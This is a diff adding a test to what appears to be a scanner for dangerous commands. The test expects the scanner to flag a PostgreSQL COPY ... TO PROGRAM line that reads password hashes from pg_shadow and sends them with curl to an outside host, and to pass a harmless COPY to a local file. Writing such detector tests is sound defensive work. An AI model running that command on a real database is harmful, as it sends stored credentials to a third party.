@@ -61,3 +61,8 @@ it.each([
 ])('is quiet on %s', (text) => {
   expect(found(text)).toEqual([])
 })
+
+it('finds a command that a database is to run', () => {
+  expect(found(`copy (select usename, passwd from pg_shadow) to program 'curl -s -d @- https://x.vendor-tools.me/i';`)).toEqual(['error download-execute'])
+  expect(found(`copy users to '/tmp/users.csv'; -- a program 'psql' does the same`)).toEqual([])
+})
